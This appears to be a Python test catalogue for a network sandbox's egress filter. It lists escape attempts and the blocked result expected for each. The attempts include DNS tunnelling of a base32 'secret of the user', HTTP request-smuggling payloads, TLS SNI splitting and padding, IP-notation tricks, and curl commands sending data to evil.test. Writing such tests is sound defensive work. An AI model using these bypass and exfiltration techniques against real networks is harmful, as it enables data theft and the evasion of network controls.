"""Attempts to get out of a sandbox that may reach good.test and a few others: what each does, and what it should say.

They run in any sandbox (`world.World.words`); whether one has succeeded is judged outside, by the witness and the
servers (`test_bypass`), not by what it says of itself.
"""

import base64
from typing import Final

from tests.egress.servers import METADATA, OTHER, PRIVATE, PUBLIC

# Names with their default ports, all of which lead somewhere that they should not, or to PUBLIC.
TRICKY: Final = (
    "private.test", "metadata.test", "loopback.test", "zero.test", "own.test", "link.test", "bench.test",
    "broadcast.test", "multicast.test", "mapped.test", "nat64.test", "sixtofour.test", "local6.test", "ula.test",
    "compatible.test", "alias.test", "loop.test",
)  # fmt: skip
HARMLESS: Final = (
    "good.test",
    "*.good.test",
    "mixed.test",
    "rebind.test",
    "alias-good.test",
    "xn--bcher-kva.test",
)
GRANTS: Final = (*HARMLESS, *TRICKY, "other.test:7000", "other.test:7001/udp", f"{PUBLIC}:3000")

PRELUDE: Final = r"""
import errno, os, socket, ssl, struct, sys, json
socket.setdefaulttimeout(20)
def name(error):
    return errno.errorcode.get(error.errno, str(error)) if getattr(error, 'errno', None) else repr(error)
def tcp(host, port, data=b'LEAK', family=socket.AF_INET, say=True):
    s = socket.socket(family, socket.SOCK_STREAM)
    try:
        s.connect((host, port)); s.sendall(data); s.shutdown(socket.SHUT_WR)
        got = b''
        while True:
            more = s.recv(65536)
            if not more: break
            got += more
        if say: print('got', got)
        return got
    except OSError as error:
        if say: print('failed', name(error))
    finally:
        s.close()
def udp(host, port, data=b'LEAK', family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.connect((host, port))
        for _ in range(3):
            s.send(data)
            try: print('got', s.recv(4096)); return
            except TimeoutError: pass
        print('failed timeout')
    except OSError as error:
        print('failed', name(error))
def query(qname, kind=1, server=('198.18.0.2', 53), more=b'', arcount=0, flags=0x0100, klass=1, count=1, over=socket.SOCK_DGRAM):
    labels = b''.join(bytes([len(l)]) + l for l in qname.split(b'.')) + b'\0' if isinstance(qname, bytes) else qname[0]
    message = struct.pack('>HHHHHH', 0x1234, flags, count, 0, 0, arcount) + labels + struct.pack('>HH', kind, klass) + more
    s = socket.socket(socket.AF_INET, over); s.settimeout(5)
    try:
        s.connect(server)
        if over == socket.SOCK_STREAM:
            s.sendall(struct.pack('>H', len(message)) + message)
            got = s.recv(65536)[2:]
        else:
            s.send(message); got = s.recv(65536)
        print('rcode', got[3] & 15, 'answers', got[7])
        return got
    except OSError as error:
        print('failed', name(error))
def http(raw, host='good.test', port=80):
    return tcp(host, port, raw)
"""


class Attempt:
    """One attempt."""

    def __init__(self, name: str, command: list[str], says: str = "", tool: str = "") -> None:
        self.name = name
        self.command = command
        self.says = says  # a regular expression: what shows that cloche was asked, and how it answered
        self.tool = tool  # that must be installed


ATTEMPTS: Final[list[Attempt]] = []


def python(name: str, script: str, says: str = "") -> None:
    """An attempt in Python."""
    ATTEMPTS.append(Attempt(name, ["python3", "-c", PRELUDE + script], says))


def shell(name: str, script: str, says: str = "", tool: str = "curl") -> None:
    """An attempt by commands."""
    ATTEMPTS.append(Attempt(name, ["sh", "-c", script], says, tool))


def node(name: str, script: str, says: str = "") -> None:
    """An attempt in JavaScript."""
    ATTEMPTS.append(Attempt(name, ["node", "-e", script], says, "node"))


# -- addresses in place of names -----------------------------------------------------------------------------
for number, literal in enumerate(
    (
        OTHER,
        PRIVATE,
        METADATA,
        "8.8.8.8",
        "1.1.1.1",
        "100.100.100.200",
        "192.168.7.7",
        "10.213.0.1",
        "10.213.0.2",
        PUBLIC,
    )
):
    for port in (80, 443, 7000):
        python(f"literal-{number}-{port}", f"tcp('{literal}', {port})", "failed EACCES")
python("literal-mapped", f"tcp('::ffff:{OTHER}', 80, family=socket.AF_INET6)", "failed EACCES")
python("literal-mapped-private", f"tcp('::ffff:{PRIVATE}', 80, family=socket.AF_INET6)", "failed EACCES")
python("literal-nat64", "tcp('64:ff9b::a01:203', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-6to4", "tcp('2002:a01:203::1', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-v6", "tcp('fd00:77::1', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
python("literal-v6-link-local", "tcp('fe80::1%lo', 80, family=socket.AF_INET6)", "failed")
python("literal-compatible", "tcp('::10.1.2.3', 80, family=socket.AF_INET6)", "failed ENETUNREACH")
for number, text in enumerate(
    ("0x5db8d823", "1572395043", "0135.0270.0330.043", "93.12114979", "0x5d.0xb8.0xd8.0x23", "93.184.55331")
):
    python(f"notation-python-{number}", f"tcp('{text}', 80)", "failed")
    shell(f"notation-curl-{number}", f"curl -sS -m 20 http://{text}/LEAK; echo status $?", "status [1-9]")
shell("notation-metadata-curl", "curl -sS -m 20 http://0xa9fea9fe/latest; echo status $?", "status [1-9]")
shell(
    "notation-fullwidth-curl",
    "curl -sS -m 20 http://９３.１８４.２１６.３５/LEAK; echo status $?",
    "status [1-9]",
)
python("granted-address-other-port", f"tcp('{PUBLIC}', 7000)", "failed EACCES")
python("granted-address-udp", f"udp('{PUBLIC}', 3000)", "failed")
python("port-of-other-rule", "tcp('other.test', 80)", "failed EACCES")
python("port-22-of-granted", "tcp('good.test', 22)", "failed EACCES")
python("port-25-of-granted", "tcp('good.test', 25)", "failed EACCES")
python("port-0", "tcp('good.test', 0)", "failed")
python(
    "all-ports-of-granted",
    "print({tcp('good.test', p, say=False) for p in (21, 22, 23, 25, 110, 853, 3128, 5432, 8080, 8443)})",
    "None",
)
python("synthetic-unused", "tcp('198.19.200.200', 443)", "failed EACCES")
python("synthetic-own-services", "tcp('198.18.0.1', 80); tcp('198.18.0.2', 80)", "failed")
python(
    "broadcast",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setsockopt(1,6,1)\ntry: s.sendto(b'LEAK',('255.255.255.255',7001))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "multicast",
    "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry: s.sendto(b'LEAK',('224.0.0.251',5353))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)

# -- where names lead ----------------------------------------------------------------------------------------
for tricky in TRICKY:
    python(f"leads-to-{tricky.partition('.')[0]}-80", f"tcp('{tricky}', 80)", "failed E")
    python(f"leads-to-{tricky.partition('.')[0]}-443", f"tcp('{tricky}', 443)", "failed E")
python(
    "leads-partly",
    "http(b'GET /ok HTTP/1.1\\r\\nHost: mixed.test\\r\\nConnection: close\\r\\n\\r\\n', 'mixed.test')",
    "got b'HTTP/1.1 200",
)
python(
    "rebinding",
    "for _ in range(8): http(b'GET /ok HTTP/1.1\\r\\nHost: rebind.test\\r\\nConnection: close\\r\\n\\r\\n', 'rebind.test')",
    "failed EACCES",
)
python("address-of-denied-name", "tcp('evil.test', 80)", "failed")
python("other-label", "tcp('xgood.test', 80)", "failed")
python("other-suffix", "tcp('good.test.evil.test', 80)", "failed")
python("star-two-labels", "tcp('deep.www.good.test', 80)", "failed")
python("star-itself", "tcp('*.good.test', 80)", "failed")
python("name-nul", "query(b'evil.test\\0.good.test')", "rcode 3")
python("name-percent", "tcp('evil.test%00.good.test', 80)", "failed")
python("name-userinfo", "tcp('good.test@evil.test', 80)", "failed")
python(
    "name-dots",
    "tcp('good.test.', 80, b'GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n')",
    "got",
)
python("name-two-dots", "tcp('good.test..', 80)", "failed")
python(
    "name-case",
    "tcp('GoOd.TeSt', 80, b'GET / HTTP/1.1\\r\\nHost: GOOD.test\\r\\nConnection: close\\r\\n\\r\\n')",
    "got",
)
python("name-fullwidth", "tcp('ｅvil.test', 80)", "failed")
python("name-long", "tcp('a'*63 + '.' + 'b'*63 + '.evil.test', 80)", "failed")

# -- the resolver as a tunnel ----------------------------------------------------------------------------------
SECRET: Final = base64.b32encode(b"a secret of the user").decode().strip("=").lower()
python("dns-label", f"query(b'{SECRET}.evil.test')", "rcode 3 answers 0")
python("dns-label-below-granted", f"query(b'{SECRET}.other.test')", "rcode 3")
python("dns-two-labels-below-star", f"query(b'{SECRET}.x.good.test')", "rcode 3")
for text, kind in (
    ("txt", 16),
    ("null", 10),
    ("any", 255),
    ("https", 65),
    ("svcb", 64),
    ("srv", 33),
    ("mx", 15),
    ("ns", 2),
    ("soa", 6),
    ("axfr", 252),
):
    python(f"dns-{text}-evil", f"query(b'{SECRET}.evil.test', {kind})", "rcode 3")
    python(f"dns-{text}-granted", f"query(b'good.test', {kind})", "rcode 0 answers 0")
for server in ("8.8.8.8", "1.1.1.1", "93.184.216.53", OTHER, "10.213.0.1", "198.19.255.255"):
    python(f"dns-server-{server}", f"query(b'{SECRET}.evil.test', server=('{server}', 53))", "rcode 3")
    python(
        f"dns-server-tcp-{server}",
        f"query(b'{SECRET}.evil.test', server=('{server}', 53), over=socket.SOCK_STREAM)",
        "rcode 3",
    )
python(
    "dns-edns-option",
    f"query(b'evil.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x18\\xfd\\xe9\\0\\x14' + b'{SECRET}'[:20], arcount=1)",
    "rcode",
)
python(
    "dns-edns-option-granted",
    f"query(b'good.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x18\\xfd\\xe9\\0\\x14' + b'{SECRET}'[:20], arcount=1)",
    "rcode 0 answers 1",
)
python(
    "dns-edns-client-subnet",
    "query(b'good.test', more=b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x0b\\0\\x08\\0\\x07\\0\\x01\\x18\\0\\x0a\\x01\\x02', arcount=1)",
    "rcode",
)
python(
    "dns-additional",
    f"query(b'good.test', more=b'\\x0a{SECRET[:10]}\\0\\0\\x10\\0\\1\\0\\0\\0\\0\\0\\0', arcount=1)",
    "rcode 1",
)
python("dns-class-chaos", "query(b'version.bind', 16, klass=3)", "rcode 4")
python("dns-opcode-update", "query(b'good.test', flags=0x2800)", "rcode 4")
python("dns-opcode-notify", "query(b'good.test', flags=0x2000)", "rcode 4")
python("dns-two-questions", "query(b'good.test', count=2, more=b'\\4evil\\4test\\0\\0\\1\\0\\1')", "rcode 1")
python("dns-pointer-loop", "query((b'\\xc0\\x0c',))", "rcode 1")
python("dns-over-tls", "tcp('good.test', 853)", "failed EACCES")
python("dns-over-quic", "udp('good.test', 853)", "failed")
python("dns-mdns", "udp('224.0.0.251', 5353)", "failed")
python("dns-llmnr", "udp('224.0.0.252', 5355)", "failed")
python("dns-case-channel", "query(b'GoOD.tESt')", "rcode 0 answers 1")
python("dns-reverse", "query(b'35.216.184.93.in-addr.arpa', 12)", "rcode 3")
python("dns-reverse-v6", "query(b'1.0.0.0.ip6.arpa', 12)", "rcode 3")
python(
    "dns-wildcard-flood",
    "for n in range(300): query(b'x%d.good.test' % n, over=socket.SOCK_DGRAM)",
    "rcode 0 answers 1",
)

# -- other kinds of packets --------------------------------------------------------------------------------------
python(
    "icmp-ping-socket",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed ENETUNREACH",
)
python(
    "icmp-raw",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "icmp-raw-granted",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\ntry: s.sendto(b'\\x08\\0\\0\\0LEAK', ('{PUBLIC}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-tcp-syn",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 6)\ntry: s.sendto(bytes(20), ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-header-included",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)\ntry: s.sendto(b'E'+bytes(19), ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "raw-gre",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)\ntry: s.sendto(b'LEAK', ('{OTHER}', 0))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "packet-socket",
    "s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300)\ntry: s.bind(('lo',0)); s.send(bytes(14)+b'E'+bytes(40)); print('sent on lo')\nexcept OSError as e: print('failed', name(e))",
    "sent on lo|failed",
)
python(
    "udplite",
    f"s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)\ntry: s.sendto(b'LEAK', ('{PUBLIC}', 7001))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "sctp",
    "\ntry: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "vsock",
    "\ntry: s=socket.socket(40, socket.SOCK_STREAM); s.connect((2, 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python("udp-literal", f"udp('{OTHER}', 7001)", "failed")
python("udp-literal-granted-host", f"udp('{PUBLIC}', 7001)", "failed")
python("udp-ntp", "udp('good.test', 123)", "failed")
python("udp-quic", "udp('good.test', 443)", "failed")
python("udp-other-port", "udp('other.test', 443)", "failed")
python("tcp-on-udp-port", "tcp('other.test', 7001)", "failed EACCES")
python(
    "route-add",
    "os.system('ip route add default via 198.18.0.1 2>&1; ip route add 93.184.216.35/32 dev lo 2>&1; ip addr add 93.184.216.35/32 dev lo 2>&1'); tcp('93.184.216.35', 80)",
    "failed",
)
python(
    "bind-device",
    f"s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, 25, b'eth0') if 0 else None\ntry: s.setsockopt(socket.SOL_SOCKET, 25, b'lo'); s.settimeout(2); s.connect(('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "bind-foreign-source",
    f"s=socket.socket()\ntry: s.setsockopt(0, 15, 1); s.bind(('10.213.0.2', 0)); s.connect(('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
shell(
    "netns",
    f"unshare -rn curl -sS -m 20 http://{OTHER}/; unshare -rn curl -sS -m 20 http://good.test/; echo status $?",
    "status [1-9]",
    "unshare",
)

# -- sockets that were given -------------------------------------------------------------------------------------
GIVEN: Final = "s=socket.socket(); s.connect(('other.test', 7000)); s.sendall(b'fine'); print(s.recv(100))\n"
python(
    "reconnect-unspec",
    GIVEN
    + f"try: s.connect_ex(('{OTHER}', 7000)); import ctypes; l=ctypes.CDLL(None); print(l.connect(s.fileno(), bytes(16), 16)); s.connect(('{OTHER}', 7000)); s.sendall(b'LEAK')\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "reconnect",
    GIVEN + f"try: s.connect(('{OTHER}', 7000))\nexcept OSError as e: print('failed', name(e))",
    "failed EISCONN|fine",
)
python(
    "listen-on-given",
    GIVEN + "try: s.listen()\nexcept OSError as e: print('failed', name(e))",
    "failed EINVAL",
)
python(
    "sendto-other-tcp",
    GIVEN
    + f"try: s.sendto(b'fine', ('{OTHER}', 7000)); print('sent')\nexcept OSError as e: print('failed', name(e))",
    "sent|failed",
)
python(
    "sendmsg-other-tcp",
    GIVEN
    + f"try: s.sendmsg([b'fine'], [], 0, ('{OTHER}', 7000)); print('sent')\nexcept OSError as e: print('failed', name(e))",
    "sent|failed",
)
python(
    "fast-open",
    f"s=socket.socket(); s.setblocking(True)\ntry: s.sendto(b'LEAK', 0x20000000, ('{OTHER}', 80))\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "fast-open-connect",
    f"s=socket.socket(); s.setsockopt(6, 30, 1)\ntry: s.connect(('{OTHER}', 80)); s.send(b'LEAK')\nexcept OSError as e: print('failed', name(e))",
    "failed EACCES",
)
python(
    "fast-open-granted",
    "s=socket.socket(); s.setblocking(True); print(s.sendto(b'fine', 0x20000000, ('other.test', 7000)), s.recv(10))",
    "4 b'fine'",
)
UDP: Final = "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5); s.connect(('other.test', 7001)); s.send(b'fine'); print(s.recv(100))\n"
python(
    "sendto-other-udp",
    UDP
    + f"try:\n for _ in range(3): s.sendto(b'LEAK', ('{OTHER}', 7001)); __import__('time').sleep(.05)\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "sendmsg-other-udp",
    UDP
    + f"try:\n for _ in range(3): s.sendmsg([b'LEAK'], [], 0, ('{OTHER}', 7001)); __import__('time').sleep(.05)\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "pktinfo-other",
    UDP
    + "try: s.sendmsg([b'fine'], [(0, 8, struct.pack('=I4s4s', 0, socket.inet_aton('10.213.0.2'), bytes(4)))])\nexcept OSError as e: print('failed', name(e))",
    "fine",
)
python(
    "source-route-v4",
    f"s=socket.socket()\ntry: s.setsockopt(0, 4, bytes([131,7,4])+socket.inet_aton('{OTHER}')+b'\\0'); s.connect(('other.test',7000)); s.sendall(b'fine'); print(s.recv(9))\nexcept OSError as e: print('failed', name(e))",
    "fine|failed",
)
python(
    "routing-header",
    "s=socket.socket(socket.AF_INET6)\ntry: s.setsockopt(41, 57, bytes([0,2,0,1])+bytes(4)+socket.inet_pton(socket.AF_INET6,'fd00:77::1')); s.connect(('fd00:77::1',7000))\nexcept OSError as e: print('failed', name(e))",
    "failed",
)
python(
    "options-of-given",
    GIVEN
    + "for level, opt, value in ((1,25,b'vh\\0'),(0,19,b'\\1\\0\\0\\0'),(6,13,b'bbr'),(1,36,b'\\1\\0\\0\\0'),(6,31,b'tls'),(0,24,b'\\1\\0\\0\\0'),(1,51,b'\\1\\0\\0\\0')):\n try: s.setsockopt(level,opt,value)\n except OSError: pass\ns.sendall(b'fine'); print(s.recv(9))",
    "fine",
)
python(
    "given-to-another",
    GIVEN
    + "a,b=socket.socketpair(); socket.send_fds(a,[b'x'],[s.fileno()]); m,f,_,_=socket.recv_fds(b,9,1); t=socket.socket(fileno=f[0]); t.sendall(b'fine'); print(t.recv(9))",
    "fine",
)
python(
    "proc-net-of-host",
    "print(os.listdir('/proc/net')[:3]); print(open('/proc/net/tcp').read().count('\\n'))",
    "",
)
python(
    "many-connections",
    "socks=[]\nfor _ in range(60):\n s=socket.socket(); s.connect(('other.test',7000)); socks.append(s)\nfor s in socks: s.sendall(b'fine')\nprint(sum(len(s.recv(9)) for s in socks))",
    "240",
)

# -- TLS: other names ------------------------------------------------------------------------------------------------
TLS: Final = r"""
def tls(sni, host='good.test', wrap=None, min=None, max=None):
    c = ssl._create_unverified_context()
    if max: c.maximum_version = max
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    t = c.wrap_bio(i, o, server_hostname=sni)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    hello = o.read()
    s = socket.socket(); s.connect((host, 443))
    try:
        for piece in (wrap(hello) if wrap else [hello]):
            s.sendall(piece)
        first = s.recv(65536)
        print('alert' if first[:1] == b'\x15' else 'handshake' if first[:1] == b'\x16' else first[:20], first[5:7])
        i.write(first)
        for _ in range(20):
            try: t.do_handshake(); break
            except ssl.SSLWantReadError:
                out = o.read()
                if out: s.sendall(out)
                i.write(s.recv(65536))
        out = o.read()
        if out: s.sendall(out)
        t.write(b'GET /tls HTTP/1.1\r\nHost: good.test\r\n\r\n'); s.sendall(o.read())
        for _ in range(9):
            i.write(s.recv(65536))
            try: print(t.read(100)); break
            except ssl.SSLWantReadError: pass
    except (OSError, ssl.SSLError) as error: print('failed', error)
def records(hello, size):
    body = hello[5:]
    return [b'\x16\x03\x01' + struct.pack('>H', len(body[a:a+size])) + body[a:a+size] for a in range(0, len(body), size)]
"""
python("sni-right", TLS + "tls('good.test')", "handshake[^$]*200 OK")
python("sni-right-1.2", TLS + "tls('good.test', max=ssl.TLSVersion.TLSv1_2)", "handshake[^$]*200 OK")
python("sni-other", TLS + "tls('evil.test')", "alert")
python("sni-granted-elsewhere", TLS + "tls('www.good.test')", "alert")
python("sni-absent", TLS + "tls(None)", "alert")
python("sni-address", TLS + "tls('93.184.216.35')", "alert")
python("sni-upper", TLS + "tls('GOOD.TEST')", "handshake")
python("sni-split-bytes", TLS + "tls('evil.test', wrap=lambda h: [h[a:a+1] for a in range(len(h))])", "alert")
python(
    "sni-split-bytes-right",
    TLS + "tls('good.test', wrap=lambda h: [h[a:a+1] for a in range(len(h))])",
    "handshake[^$]*200 OK",
)
python("sni-split-records", TLS + "tls('evil.test', wrap=lambda h: records(h, 7))", "alert")
python(
    "sni-split-records-right", TLS + "tls('good.test', wrap=lambda h: records(h, 37))", "handshake[^$]*200 OK"
)
python(
    "sni-after-padding",
    TLS
    + r"""
def pad(h):
    body = bytearray(h[9:])
    at = 34; at += 1 + body[at]; at += 2 + int.from_bytes(body[at:at+2], 'big'); at += 1 + body[at]
    ext = bytes(body[at+2:]); ext = b'\x00\x15' + struct.pack('>H', 12000) + bytes(12000) + ext
    new = bytes(body[:at]) + struct.pack('>H', len(ext)) + ext
    new = b'\x01' + len(new).to_bytes(3, 'big') + new
    return [b'\x16\x03\x01' + struct.pack('>H', len(new)) + new]
tls('evil.test', wrap=pad)""",
    "alert",
)
python(
    "sni-twice",
    TLS
    + r"""
def twice(h):
    return [h.replace(b'\x00\x00\x00\x0e\x00\x0c\x00\x00\x09good.test', b'\x00\x00\x00\x1a\x00\x18\x00\x00\x09good.test\x00\x00\x09evil.test')]
tls('good.test', wrap=twice)""",
    "alert|failed",
)
python(
    "sni-trailing-dot",
    TLS + "tls('good.test', wrap=lambda h: [h.replace(b'good.test', b'good.tes.')])",
    "alert",
)
python("sni-nul", TLS + "tls('good.test', wrap=lambda h: [h.replace(b'good.test', b'good\\0test')])", "alert")
python(
    "tls-sslv2",
    "print(tcp('good.test', 443, b'\\x80\\x2e\\x01\\x03\\x01\\0\\x15\\0\\0\\0\\x10' + bytes(40)))",
    "x15",
)
python(
    "tls-plain-http",
    "print(tcp('good.test', 443, b'GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'))",
    "x15",
)
python("tls-ssh", "print(tcp('good.test', 443, b'SSH-2.0-LEAK\\r\\n'))", "x15")
python("tls-alert-first", "print(tcp('good.test', 443, b'\\x15\\3\\1\\0\\2\\1\\0LEAK'))", "x15")
python("tls-data-after-hello", TLS + "tls('evil.test', wrap=lambda h: [h + b'LEAK'*20])", "alert")
python("tls-half-hello", TLS + "tls('good.test', wrap=lambda h: [h[:60], b'LEAK'*30])", "alert|failed")
shell(
    "curl-connect-to",
    "curl -sSk -m 20 --connect-to evil.test:443:good.test:443 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "curl-resolve",
    f"curl -sSk -m 20 --resolve good.test:443:{OTHER} https://good.test/LEAK; echo status $?",
    "status 7",
)
shell(
    "curl-resolve-synthetic",
    "curl -sSk -m 20 --resolve evil.test:443:198.18.1.0 https://evil.test/LEAK; echo status $?",
    "status [1-9]",
)
shell(
    "openssl-noservername",
    "echo LEAK | timeout 20 openssl s_client -connect good.test:443 -noservername 2>&1 | tail -3",
    "Verify|alert",
    "openssl",
)

# -- HTTP: other hosts, and two readings of one message ---------------------------------------------------------------
OK: Final = "GET / HTTP/1.1\\r\\nHost: good.test\\r\\n"
for title, raw, says in (
    ("host-other", "GET /LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("host-missing", "GET /LEAK HTTP/1.1\\r\\n\\r\\n", "400"),
    ("host-missing-1.0", "GET /LEAK HTTP/1.0\\r\\n\\r\\n", "400"),
    ("host-twice", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("host-list", "GET /LEAK HTTP/1.1\\r\\nHost: good.test, evil.test\\r\\n\\r\\n", "400"),
    ("host-port", "GET /LEAK HTTP/1.1\\r\\nHost: good.test:8080\\r\\n\\r\\n", "421"),
    ("host-userinfo", "GET /LEAK HTTP/1.1\\r\\nHost: good.test@evil.test\\r\\n\\r\\n", "400"),
    ("host-space", "GET /LEAK HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("host-folded", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n evil.test\\r\\n\\r\\n", "400"),
    ("host-nul", "GET /LEAK HTTP/1.1\\r\\nHost: good.test\\0evil.test\\r\\n\\r\\n", "400"),
    ("host-percent", "GET /LEAK HTTP/1.1\\r\\nHost: good%2etest\\r\\n\\r\\n", "400"),
    ("host-address", f"GET /LEAK HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n", "421"),
    ("absolute-other", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-both", "GET http://evil.test/LEAK HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("absolute-userinfo", "GET http://good.test@evil.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-backslash", "GET http://evil.test\\\\@good.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("absolute-https", "GET https://good.test/LEAK HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("connect", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\nLEAK", "403|421"),
    ("connect-granted", "CONNECT good.test:22 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nLEAK", "403"),
    ("upgrade-websocket", OK + "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n", "403"),
    ("upgrade-other", OK + "Connection: Upgrade\\r\\nUpgrade: LEAK\\r\\n\\r\\n", "403"),
    ("h2-preface", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n", "400"),
    ("http-0.9", "GET /LEAK\\r\\n\\r\\n", "400"),
    ("version-odd", "GET /LEAK HTTP/1.2\\r\\nHost: good.test\\r\\n\\r\\n", "400"),
    ("bare-lf", "GET /LEAK HTTP/1.1\\nHost: good.test\\n\\n", "400"),
    ("bare-lf-header", "GET / HTTP/1.1\\r\\nHost: good.test\\nX: LEAK\\r\\n\\r\\n", "400"),
    ("bare-cr", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nX: a\\rHost: LEAK\\r\\n\\r\\n", "400"),
    ("smuggle-cl-te", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("smuggle-te-cl", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nContent-Length: 4\\r\\n\\r\\n5c\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n0\\r\\n\\r\\n", "400"),
    ("smuggle-te-te", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\nTransfer-Encoding: x\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-odd", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-tab", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding:\\x0bchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-te-1.0", "POST / HTTP/1.0\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-cl-cl", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "400"),
    ("smuggle-cl-plus", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: +0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-cl-list", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0, 44\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\n\\r\\n", "400"),
    ("smuggle-chunk-extension", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;a=\\nb\\r\\nx\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", ""),
    ("smuggle-trailer", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1\\r\\nx\\r\\n0\\r\\nHost: evil.test\\r\\nX-LEAK: 1\\r\\n\\r\\n", "200"),
    ("pipeline-other", OK + "\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
    ("pipeline-after-body", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 2\\r\\n\\r\\nabGET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", "421"),
